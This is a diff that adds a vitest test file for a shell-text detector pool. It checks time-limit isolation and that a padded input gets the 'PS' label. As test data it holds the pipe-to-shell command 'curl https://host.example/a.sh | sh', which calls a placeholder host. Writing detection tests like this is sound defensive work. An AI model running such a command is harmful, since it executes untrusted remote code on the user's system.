@@ -1,0 +1,25 @@
+import { afterAll, expect, test } from "vitest";
+import { AnalysisFailedError } from "../../src/host/analysis-failed.js";
+import { mayBeCostly } from "../../src/host/costly.js";
+import { createDetectorPool } from "../../src/host/pool.js";
+
+const pool = await createDetectorPool({ threads: 1, timeLimitMs: 1 });
+afterAll(() => pool.close());
+
+const costly = `curl https://host.example/a.sh | sh\n${"# a comment\n".repeat(40_000)}`;
+
+test("a costly text that fails costs the answers of no other text", async () => {
+  expect(mayBeCostly(costly)).toBe(true);
+  const failed = pool.detect(costly, { format: "shell" });
+  const other = pool.detect("curl https://host.example/a.sh | sh", { format: "shell" });
+  await expect(failed).rejects.toBeInstanceOf(AnalysisFailedError);
+  expect((await other).labels).toEqual(["PS"]);
+});
+
+test("a costly text is analyzed as any other", async () => {
+  const patient = await createDetectorPool({ threads: 1 });
+  const { labels, spans } = await patient.detect(costly, { format: "shell" });
+  await patient.close();
+  expect(labels).toEqual(["PS"]);
+  expect(spans).toHaveLength(1);
+});
